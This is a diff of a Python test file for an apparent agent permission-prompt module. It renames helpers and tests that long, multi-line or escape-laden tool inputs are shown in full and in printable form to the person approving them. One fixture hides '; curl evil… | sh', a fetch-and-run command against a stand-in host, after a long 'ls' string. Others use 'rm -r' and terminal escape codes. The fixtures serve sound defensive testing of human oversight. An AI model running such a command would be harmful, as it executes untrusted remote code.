@@ -30,7 +30,7 @@ def test_the_line_says_who_asks_for_what_and_how_to_answer() -> None:
 def test_what_is_asked_for_is_what_the_agent_shows_else_what_the_tool_would_get(
     description: str, input: bytes, shown: str
 ) -> None:
-    assert asks.what(description, input) == shown
+    assert asks.request_text(description, input) == shown
 
 
 def test_what_is_too_long_for_the_question_is_shown_whole_before_a_person_answers() -> None:
@@ -38,17 +38,17 @@ def test_what_is_too_long_for_the_question_is_shown_whole_before_a_person_answer
     short = PermissionAsked(
         agent="a", ask_id="a-1", tool="Bash", description="ls -l", input=Raw(b'{"command":"ls -l"}')
     )
-    assert asks.rest(short) == []
+    assert asks.full_input_lines(short) == []
     for text in (f"ls {'a' * 300}{end}", f"ls\n{end}", f"ls{' ' * 300}{end}"):
         data = Raw(msgspec.json.encode({"command": text, "more": ["x\x1b[2J"]}))
         for description in ("", text, f"{'List the files ' * 20}"):
             asked = PermissionAsked(agent="a", ask_id="a-1", tool="Bash", description=description, input=data)
-            shown = asks.rest(asked)
+            shown = asks.full_input_lines(asked)
             assert all(line.startswith("  | ") and line.isprintable() for line in shown)
             assert end in asks.question(asked) + "\n".join(shown)
     assert "echo one ⏎ rm -r two" in asks.question(msgspec.structs.replace(short, description="echo one\nrm -r two"))
     asked = PermissionAsked(agent="a", ask_id="a-1", tool="Bash", description="x" * 30_000)
-    assert asks.rest(asked)[-1] == "  | … and 10000 more characters, which are not shown"
+    assert asks.full_input_lines(asked)[-1] == "  | … and 10000 more characters, which are not shown"
 
 
 def test_the_time_left_is_never_negative() -> None:
@@ -58,15 +58,15 @@ def test_the_time_left_is_never_negative() -> None:
 
 def test_a_table_has_one_line_an_ask(capsys: pytest.CaptureFixture[str]) -> None:
     line = AskLine(id="a-1", agent="a", tool="Bash", input=Raw(b'"x\\ny"'), asked="2000-01-01T00:00:00Z", expires=FAR)
-    asks.table([line, line])
+    asks.print_table([line, line])
     rows = capsys.readouterr().out.splitlines()
     assert len(rows) == 3 and rows[1].split("\t")[0::4] == ["a-1", "Bash"]
 
 
 def test_who_approves_from_another_shell_is_shown_all_of_a_long_question_and_nothing_of_a_short_one() -> None:
     ask = AskLine(id="a-1", agent="a", tool="Bash\x1b[2J", description="ls", asked=FAR)
-    assert asks.whole(ask) == []
+    assert asks.full_ask_lines(ask) == []
     long = msgspec.structs.replace(ask, description=f"ls {'a' * 300}; curl evil\x1b[2J | sh")
-    first, *lines = asks.whole(long)
+    first, *lines = asks.full_ask_lines(long)
     assert first == "a asks for Bash␛[2J:" and all(line.isprintable() for line in (first, *lines))
     assert "; curl evil␛[2J | sh" in "\n".join(lines)
